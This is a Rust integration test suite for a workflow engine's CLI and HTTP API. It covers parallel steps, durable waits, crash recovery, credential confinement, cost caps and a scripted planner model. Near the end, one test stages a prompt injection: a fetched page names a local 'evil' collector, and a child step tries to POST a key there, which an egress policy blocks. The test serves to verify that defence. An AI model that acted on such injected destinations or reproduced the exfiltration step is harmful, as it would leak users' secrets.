//! GoalEngine against a real `bbx serve`, through the CLI's contract: steps run
//! in parallel as their dependencies end and pass outputs by reference;
//! broken workflows are refused before anything runs; durable waits, signals,
//! approvals, pause, cancel, fallbacks and failures; runs resume across
//! SIGKILLs without running a completed step again.

mod support;

use chrono::{DateTime, Utc};
use serde_json::Value;
use std::time::{Duration, Instant};
use support::{Kernel, json};

fn write(dir: &tempfile::TempDir, name: &str, text: &str) -> String {
    let path = dir.path().join(name);
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_owned()
}

fn start(kernel: &Kernel, agent: &str, file: &str) -> String {
    let started = json(&kernel.cli(&["goals", "run", file, "--agent", agent, "--json"]));
    started["run_id"]
        .as_str()
        .unwrap_or_else(|| panic!("no run_id: {started}"))
        .to_owned()
}

fn status(kernel: &Kernel, run: &str) -> Value {
    json(&kernel.cli(&["goals", "status", run, "--json"]))
}

/// The run's status once `done` holds of it.
fn until(kernel: &Kernel, run: &str, what: &str, done: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let status = status(kernel, run);
        if done(&status) {
            return status;
        }
        assert!(Instant::now() < deadline, "{what} never came: {status:#}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn ended(kernel: &Kernel, run: &str) -> Value {
    until(kernel, run, "the run's end", |s| s["status"] != "running")
}

fn at(step: &Value, field: &str) -> DateTime<Utc> {
    step[field]
        .as_str()
        .unwrap_or_else(|| panic!("no {field}: {step}"))
        .parse()
        .unwrap()
}

fn state(kernel: &Kernel, agent: &str, key: &str) -> Value {
    json(&kernel.cli(&["state", "get", agent, key, "--json"]))["value"].clone()
}

#[test]
fn independent_steps_run_together_and_outputs_pass_by_reference() {
    let kernel = Kernel::start();
    let agent = kernel.new_agent();
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        &dir,
        "wf.yaml",
        "steps:\n  a: {kind: sleep, args: {ms: 400}}\n  b: {kind: sleep, args: {ms: 400}}\n  inc: {kind: state.incr, args: {key: counter, by: 5}}\n  c:\n    kind: state.set\n    args: {key: out, value: '${steps.inc.output.value}'}\n    depends_on: [a, b]\n",
    );
    let run = start(&kernel, &agent, &file);
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "succeeded", "{done:#}");
    let steps = &done["steps"];
    for name in ["a", "b", "inc", "c"] {
        assert_eq!(steps[name]["status"], "succeeded", "{name}: {done:#}");
    }
    let (a, b, c) = (&steps["a"], &steps["b"], &steps["c"]);
    assert!(
        at(a, "started_at") < at(b, "finished_at") && at(b, "started_at") < at(a, "finished_at"),
        "a and b overlap: {done:#}"
    );
    assert!(
        at(c, "started_at") >= at(a, "finished_at").max(at(b, "finished_at")),
        "c after both: {done:#}"
    );
    assert_eq!(steps["inc"]["output"]["value"], 5);
    assert_eq!(
        state(&kernel, &agent, "out"),
        5,
        "a whole reference keeps its JSON type"
    );
    assert_eq!(c["output"]["key"], "out");
    let listed = json(&kernel.cli(&["goals", "list", "--agent", &agent, "--json"]));
    assert_eq!(listed["runs"][0]["run_id"], run.as_str());
    let report = json(&kernel.cli(&["v2", "goals", "status", &run, "--json"]));
    assert_eq!(report["status"], "succeeded");
}

#[test]
fn a_broken_workflow_is_refused_before_anything_runs() {
    let kernel = Kernel::start();
    let agent = kernel.new_agent();
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        (
            "steps:\n  w: {kind: state.incr, args: {key: w}}\n  a: {kind: noop, depends_on: [c]}\n  b: {kind: noop, depends_on: [a]}\n  c: {kind: noop, depends_on: [b]}\n",
            "cycle (each waits for the one before it): a -> b -> c -> a",
        ),
        ("steps:\n  a: {kind: launch.rockets}\n", "steps.a.kind"),
        ("steps:\n  a: {kind: state.incr, args: {key: 7}}\n", "steps.a.args.key"),
        (
            "steps:\n  a: {kind: state.incr, args: {key: '${steps.gone.output}'}}\n",
            "\"gone\"",
        ),
        ("steps:\n  a: {kind: noop, colour: red}\n", "colour"),
        ("steps: [unclosed\n", "not valid YAML"),
    ];
    for (i, (text, says)) in cases.iter().enumerate() {
        let file = write(&dir, &format!("bad{i}.yaml"), text);
        kernel.refused(&["goals", "run", &file, "--agent", &agent], says);
        kernel.refused(&["goals", "validate", &file], says);
    }
    let listed = json(&kernel.cli(&["goals", "list", "--agent", &agent, "--json"]));
    assert_eq!(listed["runs"], serde_json::json!([]), "no run was made");
    let state = json(&kernel.cli(&["state", "list", &agent, "--json"]));
    assert_eq!(state["entries"], serde_json::json!([]), "no step ran");
    kernel.refused(
        &["goals", "status", "01a251fa-6d88-7994-9ea3-7c3ba46cd672"],
        "does not exist",
    );
}

#[test]
fn signals_approvals_and_timers_are_durable_waits() {
    let mut kernel = Kernel::start();
    let agent = kernel.new_agent();
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        &dir,
        "waits.yaml",
        "steps:\n  t: {kind: wait.timer, args: {ms: 300}}\n  sig: {kind: wait.signal, args: {name: go}}\n  use: {kind: state.set, args: {key: got, value: '${steps.sig.output.n}'}}\n  ok: {kind: wait.approval, args: {reason: ship it?}}\n  after: {kind: state.incr, args: {key: approved}, depends_on: [ok, t]}\n",
    );
    let run = start(&kernel, &agent, &file);
    until(&kernel, &run, "the waits", |s| {
        s["steps"]["sig"]["status"] == "waiting" && s["steps"]["ok"]["status"] == "waiting"
    });
    // A restart in the middle: the waits are durable.
    kernel.crash();
    kernel.restart();
    json(&kernel.cli(&["goals", "signal", &run, "go", r#"{"n": 7}"#, "--json"]));
    let again = json(&kernel.cli(&["goals", "signal", &run, "go", r#"{"n": 8}"#, "--json"]));
    assert_eq!(again["delivered"], false, "the first signal of a name is kept");
    kernel.refused(&["goals", "signal", &run, "og"], "no wait.signal step named \"og\"");
    until(&kernel, &run, "the signal's step", |s| {
        s["steps"]["use"]["status"] == "succeeded"
    });
    assert_eq!(
        status(&kernel, &run)["steps"]["after"]["status"],
        "pending",
        "waits for its approval"
    );
    json(&kernel.cli(&["goals", "approve", &run, "ok", "--json"]));
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "succeeded", "{done:#}");
    assert_eq!(state(&kernel, &agent, "got"), 7);
    assert_eq!(state(&kernel, &agent, "approved"), 1);
    assert!(done["steps"]["t"]["wake_at"].is_string());

    // Denied: the step fails, and so does the run.
    let run = start(&kernel, &agent, &file);
    until(&kernel, &run, "the approval's wait", |s| {
        s["steps"]["ok"]["status"] == "waiting"
    });
    json(&kernel.cli(&[
        "goals",
        "approve",
        &run,
        "ok",
        "--deny",
        "--reason",
        "not today",
        "--json",
    ]));
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "failed");
    assert!(
        done["steps"]["ok"]["error"]["message"]
            .as_str()
            .unwrap()
            .contains("not today"),
        "{done:#}"
    );
    kernel.refused(&["goals", "approve", &run, "ok"], "has ended");
}

#[test]
fn pause_holds_new_steps_and_cancel_stops_running_ones() {
    let kernel = Kernel::start();
    let agent = kernel.new_agent();
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        &dir,
        "pause.yaml",
        "steps:\n  sig: {kind: wait.signal, args: {name: go}}\n  next: {kind: state.incr, args: {key: n}, depends_on: [sig]}\n",
    );
    let run = start(&kernel, &agent, &file);
    json(&kernel.cli(&["goals", "pause", &run, "--json"]));
    json(&kernel.cli(&["goals", "signal", &run, "go", "--json"]));
    until(&kernel, &run, "the signal", |s| {
        s["steps"]["sig"]["status"] == "succeeded"
    });
    std::thread::sleep(Duration::from_millis(300));
    let paused = status(&kernel, &run);
    assert_eq!(paused["paused"], true);
    assert_eq!(
        paused["steps"]["next"]["status"], "pending",
        "a paused run starts nothing"
    );
    json(&kernel.cli(&["goals", "resume", &run, "--json"]));
    assert_eq!(ended(&kernel, &run)["status"], "succeeded");

    let file = write(
        &dir,
        "cancel.yaml",
        "steps:\n  long: {kind: sleep, args: {ms: 60000}}\n  w: {kind: wait.signal, args: {name: never}}\n  after: {kind: state.incr, args: {key: never}, depends_on: [long]}\n",
    );
    let run = start(&kernel, &agent, &file);
    until(&kernel, &run, "the sleep", |s| {
        s["steps"]["long"]["status"] == "running"
    });
    let asked = Instant::now();
    json(&kernel.cli(&["goals", "cancel", &run, "--json"]));
    let done = ended(&kernel, &run);
    assert!(asked.elapsed() < Duration::from_secs(20), "the sleep was stopped");
    assert_eq!(done["status"], "cancelled", "{done:#}");
    for name in ["long", "w", "after"] {
        assert_eq!(done["steps"][name]["status"], "cancelled", "{name}: {done:#}");
    }
    kernel.refused(&["state", "get", &agent, "never"], "not");
}

#[test]
fn fallbacks_failures_and_conditions_follow_the_workflow() {
    let kernel = Kernel::start();
    let agent = kernel.new_agent();
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        &dir,
        "fail.yaml",
        "steps:
  slow: {kind: sleep, args: {ms: 5000}, timeout_ms: 100, fallback: {kind: state.set, args: {key: fb, value: 1}}}
  flaky: {kind: sleep, args: {ms: 5000}, timeout_ms: 50, retries: {count: 1, backoff_ms: 10}, on_failure: skip}
  after_flaky: {kind: state.incr, args: {key: never}, depends_on: [flaky]}
  cont: {kind: sleep, args: {ms: 5000}, timeout_ms: 50, on_failure: continue}
  uses: {kind: state.set, args: {key: x, value: '${steps.cont.output.slept_ms}'}}
  guarded: {kind: state.incr, args: {key: guarded}, when: '${steps.slow.output.version} == 1 && 1 > 2'}
",
    );
    let run = start(&kernel, &agent, &file);
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "failed", "{done:#}");
    let steps = &done["steps"];
    assert_eq!(steps["slow"]["status"], "succeeded");
    assert_eq!(steps["slow"]["fallback"], true);
    assert_eq!(state(&kernel, &agent, "fb"), 1);
    assert_eq!(steps["flaky"]["status"], "failed");
    assert_eq!(steps["flaky"]["attempts"], 2, "one retry: {done:#}");
    assert_eq!(steps["after_flaky"]["status"], "skipped");
    assert_eq!(steps["cont"]["status"], "failed");
    let uses = steps["uses"]["error"]["message"].as_str().unwrap();
    assert!(uses.contains("output of step cont, which ended failed"), "{uses}");
    assert_eq!(steps["guarded"]["status"], "skipped");
    assert!(
        done["error"]["message"].as_str().unwrap().contains("step uses failed"),
        "{done:#}"
    );
}

/// A run whose steps are SIGKILLed 10 times ends with every step's effect
/// applied exactly once.
#[test]
fn runs_resume_across_sigkills_and_no_completed_step_runs_again() {
    let mut kernel = Kernel::start();
    let agent = kernel.new_agent();
    let dir = tempfile::tempdir().unwrap();
    const LINKS: usize = 12;
    let mut steps = String::from("max_parallel: 4\nsteps:\n");
    for i in 0..LINKS {
        let after = if i == 0 {
            String::new()
        } else {
            format!(", depends_on: [inc{}]", i - 1)
        };
        steps.push_str(&format!("  nap{i}: {{kind: sleep, args: {{ms: 150}}{after}}}\n"));
        steps.push_str(&format!(
            "  inc{i}: {{kind: state.incr, args: {{key: k{i}}}, depends_on: [nap{i}]}}\n"
        ));
        steps.push_str(&format!(
            "  side{i}: {{kind: state.incr, args: {{key: s{i}}}{after}}}\n"
        ));
    }
    let file = write(&dir, "chain.yaml", &steps);
    let run = start(&kernel, &agent, &file);
    let mut seed = 0x9e37_79b9_u64;
    for _ in 0..10 {
        seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        std::thread::sleep(Duration::from_millis(80 + (seed >> 33) % 200));
        kernel.crash();
        kernel.restart();
    }
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "succeeded", "{done:#}");
    for i in 0..LINKS {
        assert_eq!(state(&kernel, &agent, &format!("k{i}")), 1, "k{i} incremented once");
        assert_eq!(state(&kernel, &agent, &format!("s{i}")), 1, "s{i} incremented once");
        assert_eq!(done["steps"][format!("inc{i}")]["output"]["value"], 1);
    }
}

#[test]
fn a_child_workflow_runs_as_a_step_and_gives_its_output() {
    let kernel = Kernel::start();
    let agent = kernel.new_agent();
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        &dir,
        "parent.yaml",
        "steps:
  a: {kind: state.incr, args: {key: a, by: 3}}
  child:
    kind: workflow
    args:
      inputs: {n: '${steps.a.output.value}'}
      workflow:
        inputs: {n: 0}
        steps:
          x: {kind: state.incr, args: {key: child, by: '${inputs.n}'}}
        output: {v: '${steps.x.output.value}'}
  after: {kind: state.set, args: {key: result, value: '${steps.child.output.v}'}}
",
    );
    let run = start(&kernel, &agent, &file);
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "succeeded", "{done:#}");
    assert_eq!(state(&kernel, &agent, "result"), 3);
    let child = done["steps"]["child"]["op_id"].as_str().unwrap().to_owned();
    let child = status(&kernel, &child);
    assert_eq!(child["parent"]["run"], run.as_str());
    assert_eq!(child["output"]["v"], 3);
}

#[test]
fn ten_thousand_steps_run_and_limits_are_clear_errors() {
    let kernel = Kernel::start();
    let agent = kernel.new_agent();
    let dir = tempfile::tempdir().unwrap();
    let steps = |n: usize| -> String {
        let mut text = String::from("max_parallel: 1024\nsteps:\n");
        for i in 0..n {
            text.push_str(&format!("  s{i}: {{kind: noop}}\n"));
        }
        text
    };
    let file = write(&dir, "wide.yaml", &steps(10_000));
    let run = start(&kernel, &agent, &file);
    let done = until(&kernel, &run, "the run's end", |s| s["status"] != "running");
    assert_eq!(done["status"], "succeeded");
    assert_eq!(done["counts"]["succeeded"], 10_000);

    let file = write(&dir, "too_wide.yaml", &steps(10_001));
    kernel.refused(&["goals", "validate", &file], "at most 10000 steps");
    let deep = format!(
        "steps:\n  a: {{kind: noop}}\n  b: {{kind: state.set, args: {{key: k, value: '${{steps.a.output{}}}'}}}}\n",
        ".x".repeat(40)
    );
    let file = write(&dir, "deep.yaml", &deep);
    kernel.refused(&["goals", "validate", &file], "at most 32 segments");
    let nested = format!(
        "steps:\n  a: {{kind: noop}}\n  b: {{kind: state.set, args: {{key: k, value: {}'${{steps.a.output}}'{}}}}}\n",
        "[".repeat(200),
        "]".repeat(200)
    );
    let file = write(&dir, "nested.yaml", &nested);
    let out = kernel.cli(&["goals", "validate", &file]);
    assert!(!out.status.success());
    assert_eq!(
        support::stderr(&out).trim().lines().count(),
        1,
        "{}",
        support::stderr(&out)
    );
}

/// The scripted model (`planner`, at $1 and $2 per million prompt and
/// completion tokens) as the kernel's one LLM endpoint.
async fn scripted_model_config() -> String {
    let base = scripted_planner().await;
    format!(
        "[tools.llm.endpoints.local]\nbase_url = \"{base}\"\n[tools.llm.prices.planner]\ninput_per_mtok = 1.0\noutput_per_mtok = 2.0\n"
    )
}

/// A model server speaking the OpenAI chat protocol that plays a planner: the
/// goal (`Goal: NAME` in the first user message) picks the script, and the
/// number of messages says which answer of it this is.
async fn scripted_planner() -> String {
    use tokio::io::AsyncWriteExt;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://127.0.0.1:{}/v1", listener.local_addr().unwrap().port());
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            tokio::spawn(async move {
                let Some(request) = support::read_json_request(&mut socket).await else {
                    return;
                };
                // A workflow's own llm.chat steps ask for no plan.
                let content = match request["response_format"].is_null() {
                    true => "done".to_owned(),
                    false => plan_for(&request).to_string(),
                };
                let body = serde_json::json!({
                    "model": "planner",
                    "choices": [{ "message": { "role": "assistant", "content": content }, "finish_reason": "stop" }],
                    "usage": { "prompt_tokens": 100, "completion_tokens": 50 },
                })
                .to_string();
                let response = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = socket.write_all(response.as_bytes()).await;
            });
        }
    });
    base
}

fn plan_for(request: &Value) -> Value {
    use serde_json::json;
    let messages = request["messages"].as_array().cloned().unwrap_or_default();
    let asked = messages.get(1).and_then(|m| m["content"].as_str()).unwrap_or_default();
    let format = &request["response_format"]["json_schema"]["schema"];
    assert!(
        format["properties"]["steps"].is_object(),
        "the answer is constrained: {request}"
    );
    let step = |name: &str, kind: &str, args: Value, deps: &[&str]| json!({ "name": name, "kind": kind, "args": args, "depends_on": deps });
    if asked.contains("A plan for it was running") {
        assert!(asked.contains("step bad failed"), "{asked}");
        return json!({ "steps": [step("fix", "state.set", json!({"key": "fixed", "value": "${steps.w.output.version}"}), &["w"])] });
    }
    match asked.trim_start_matches("Goal: ") {
        "count" => json!({ "steps": [
            step("a", "state.incr", json!({"key": "a", "by": 2}), &[]),
            step("b", "state.incr", json!({"key": "b", "by": "${steps.a.output.value}"}), &["a"]),
            step("c", "state.incr", json!({"key": "c"}), &[]),
        ] }),
        "repair" if messages.len() < 4 => json!({ "steps": [
            step("a", "state.incr", json!({"key": "a"}), &["b"]),
            step("b", "state.incr", json!({"key": "b"}), &[]),
        ] }),
        "repair" => {
            let refusal = messages[3]["content"].as_str().unwrap_or_default();
            assert!(
                refusal.contains("not an earlier step"),
                "the model is told why: {refusal}"
            );
            json!({ "steps": [step("b", "state.incr", json!({"key": "b"}), &[])] })
        }
        "replan" => json!({ "steps": [
            step("w", "state.set", json!({"key": "word", "value": "text"}), &[]),
            step("bad", "state.incr", json!({"key": "word"}), &["w"]),
            step("after", "state.incr", json!({"key": "never"}), &["bad"]),
        ] }),
        _ => json!("not a plan"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn goals_are_planned_checked_repaired_and_replanned() {
    let (kernel, _) = Kernel::with_config(&(scripted_model_config().await + "[goals]\nplanner_model = \"planner\"\n"));
    let agent = kernel.new_agent();
    let plan = json(&kernel.cli(&["goals", "plan", "count", "--agent", &agent, "--dry-run", "--json"]));
    assert_eq!(plan["attempts"], 1);
    assert_eq!(plan["valid_first_attempt"], true);
    assert_eq!(plan["steps"], 3);
    assert_eq!(plan["critical_path"], 2, "{plan:#}");
    assert!(
        plan["planning_cost_usd"].as_f64().unwrap() > 0.0,
        "planning is metered: {plan:#}"
    );
    assert!(plan.get("run_id").is_none(), "a dry run runs nothing");
    let dir = tempfile::tempdir().unwrap();
    let checked = write(&dir, "plan.json", &plan["plan"].to_string());
    json(&kernel.cli(&["goals", "validate", &checked, "--json"]));

    let planned = json(&kernel.cli(&["v2", "goals", "plan", "count", "--agent", &agent, "--json"]));
    let run = planned["run_id"].as_str().unwrap().to_owned();
    assert_eq!(ended(&kernel, &run)["status"], "succeeded");
    assert_eq!(state(&kernel, &agent, "b"), 2);

    let repaired = json(&kernel.cli(&["goals", "plan", "repair", "--agent", &agent, "--dry-run", "--json"]));
    assert_eq!(repaired["attempts"], 2);
    assert!(
        repaired["errors"][0].as_str().unwrap().contains("not an earlier step"),
        "{repaired:#}"
    );
    kernel.refused(
        &["goals", "plan", "babble", "--agent", &agent, "--dry-run"],
        "no valid plan in 3 attempts",
    );
    kernel.refused(
        &["goals", "plan", "count", "--agent", &agent, "--tool", "rockets.launch"],
        "rockets.launch",
    );

    let planned = json(&kernel.cli(&["goals", "plan", "replan", "--agent", &agent, "--json"]));
    let run = planned["run_id"].as_str().unwrap().to_owned();
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "succeeded", "{done:#}");
    assert_eq!(done["generation"], 1);
    assert_eq!(done["steps"]["bad"]["status"], "failed");
    assert_eq!(done["steps"]["fix"]["status"], "succeeded");
    assert!(
        done["steps"].get("after").is_none(),
        "what waited on the failed step was replaced"
    );
    assert_eq!(state(&kernel, &agent, "fixed"), 1);
    assert_eq!(state(&kernel, &agent, "word"), "text", "no step that ended ran again");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_credential_confined_to_some_kinds_runs_only_workflows_of_them() {
    use serde_json::json;
    let kernel = Kernel::start();
    let agent = kernel.new_agent();
    let http = reqwest::Client::new();
    let made: Value = http
        .post(format!("{}/v1/keys", kernel.url()))
        .bearer_auth(kernel.key())
        .json(&json!({ "name": "narrow", "tenant": "default", "role": "agent", "agent": agent, "kinds": ["goal.run", "noop"] }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let key = made["key"].as_str().unwrap_or_else(|| panic!("{made}")).to_owned();
    let run = |workflow: Value| {
        let (http, url, key) = (http.clone(), kernel.url(), key.clone());
        let agent = agent.clone();
        async move {
            let response = http
                .post(format!("{url}/v1/goals/runs"))
                .bearer_auth(key)
                .json(&json!({ "agent": agent, "workflow": workflow }))
                .send()
                .await
                .unwrap();
            (response.status().as_u16(), response.json::<Value>().await.unwrap())
        }
    };
    let nested = json!({ "steps": { "a": { "kind": "workflow", "args": { "workflow": { "steps": { "b": { "kind": "state.incr", "args": { "key": "k" } } } } } } } });
    let (status, answer) = run(nested).await;
    assert_eq!(status, 403, "{answer}");
    let (status, answer) = run(json!({ "steps": { "a": { "kind": "noop" } } })).await;
    assert_eq!(status, 200, "{answer}");
    let done = ended(&kernel, answer["run_id"].as_str().unwrap());
    assert_eq!(done["status"], "succeeded");
    // The same op sent straight to the ring, not confined: refused.
    let direct = json!({ "ops": [{ "agent": agent, "kind": "goal.run", "args": { "workflow": { "steps": { "a": { "kind": "noop" } } } } }] });
    let response = http
        .post(format!("{}/v1/ops", kernel.url()))
        .bearer_auth(&key)
        .json(&direct)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 403);
    // A step never starts runs of its own: that is what workflow steps are for.
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        &dir,
        "fork.yaml",
        "steps:\n  a: {kind: goal.run, args: {workflow_ref: x}}\n",
    );
    kernel.refused(&["goals", "validate", &file], "steers runs from outside");
}

/// A page read by one run names where to send a key; a child run's step that
/// sends there is blocked: the run tree is one flow scope.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_run_read_from_outside_taints_its_child_runs_ops() {
    let kernel = Kernel::start();
    let (evil, evil_seen) = support::http_server(|_| ("text/plain", "thanks".into())).await;
    let injected = format!("http://127.0.0.1:{evil}/collect");
    let (page, _) = support::http_server(move |_| ("text/plain", injected.clone())).await;
    let agent = json(&kernel.cli(&["agent", "create", "x", "--allow-network", "127.0.0.0/8", "--json"]))["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let dir = tempfile::tempdir().unwrap();
    let policy = write(
        &dir,
        "egress.rego",
        "package bbx.flow\nkinds := {\"tool.http\"}\ndecision := {\"action\": \"block\", \"reason\": \"an untrusted destination\"} if {\n    some t in input.tainted\n    t.path == \"/url\"\n}\n",
    );
    json(&kernel.cli(&["flow", "policies", "add", "egress", &policy]));
    let file = write(
        &dir,
        "tree.yaml",
        &format!(
            "steps:
  read: {{kind: tool.http, args: {{url: 'http://127.0.0.1:{page}/'}}}}
  child:
    kind: workflow
    args:
      inputs: {{dest: '${{steps.read.output.body}}'}}
      workflow:
        inputs: {{dest: ''}}
        steps:
          send: {{kind: tool.http, args: {{url: '${{inputs.dest}}', method: POST, body: key}}}}
"
        ),
    );
    let run = start(&kernel, &agent, &file);
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "failed", "{done:#}");
    assert_eq!(done["steps"]["read"]["status"], "succeeded");
    let why = done["steps"]["child"]["error"]["message"].as_str().unwrap_or_default();
    assert!(
        why.contains("egress"),
        "the child's step was blocked by the policy: {done:#}"
    );
    assert!(
        evil_seen.lock().unwrap().is_empty(),
        "nothing reached the injected destination"
    );
}

/// A run's cost cap holds while it runs: each `llm.chat` step costs $0.0002
/// (100 prompt and 50 completion tokens at $1 and $2 per million), so under a
/// $0.0005 cap the third step of a chain would pass it: it fails the run, or
/// waits for an operator's approval and then runs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_runs_cost_cap_fails_it_or_waits_for_approval() {
    let (kernel, _) = Kernel::with_config(&scripted_model_config().await);
    let agent = kernel.new_agent();
    let dir = tempfile::tempdir().unwrap();
    let chain = |on_cap: &str| {
        let ask = "{kind: llm.chat, args: {model: planner, max_tokens: 50, messages: [{role: user, content: go}]}";
        format!(
            "max_cost_usd: 0.0005\non_cost_cap: {on_cap}\nsteps:\n  a: {ask}}}\n  b: {ask}, depends_on: [a]}}\n  c: {ask}, depends_on: [b]}}\n"
        )
    };
    let failing = write(&dir, "fail.yaml", &chain("fail"));
    let run = start(&kernel, &agent, &failing);
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "failed", "{done:#}");
    assert_eq!(done["steps"]["b"]["status"], "succeeded");
    assert_eq!(done["steps"]["c"]["status"], "failed");
    assert_eq!(done["steps"]["c"]["error"]["code"], "quota_exceeded", "{done:#}");
    assert!(
        done["error"]["message"].as_str().unwrap().contains("cost cap"),
        "{done:#}"
    );
    assert_eq!(done["cost"]["spent_usd"], 0.0004, "{done:#}");

    // Its events on the event stream, beside the steps' completions.
    let events = kernel.events(&agent).await;
    let waiting = write(&dir, "wait.yaml", &chain("approval"));
    let run = start(&kernel, &agent, &waiting);
    let held = until(&kernel, &run, "the step past the cap", |s| {
        s["steps"]["c"]["status"] == "waiting"
    });
    assert!(
        held["steps"]["c"]["reason"].as_str().unwrap().contains("approval"),
        "{held:#}"
    );
    kernel.refused(&["goals", "approve", &run, "a"], "no wait.approval step");
    json(&kernel.cli(&["goals", "approve", &run, "c", "--json"]));
    let done = ended(&kernel, &run);
    assert_eq!(done["status"], "succeeded", "{done:#}");
    assert_eq!(done["cost"]["spent_usd"], 0.0006, "{done:#}");
    assert_eq!(done["cost"]["cap_usd"], 0.0005);

    let of_run = |e: &Value| e["event"] == "run" && e["data"]["run_id"] == run.as_str();
    let seen = support::read_events(events, |seen| {
        seen.iter()
            .any(|e| of_run(e) && e["data"]["step"].is_null() && e["data"]["status"] == "succeeded")
    })
    .await;
    let step = |name: &str, status: &str| {
        seen.iter()
            .any(|e| of_run(e) && e["data"]["step"] == name && e["data"]["status"] == status)
    };
    assert!(
        seen.iter().any(|e| of_run(e) && e["data"]["status"] == "running"),
        "{seen:#?}"
    );
    assert!(step("a", "running") && step("a", "succeeded"), "{seen:#?}");
    assert!(step("c", "waiting") && step("c", "succeeded"), "{seen:#?}");
    assert!(
        seen.iter().any(|e| e["kind"] == "llm.chat" && e["status"] == "ok"),
        "the steps' completions are there too: {seen:#?}"
    );
}
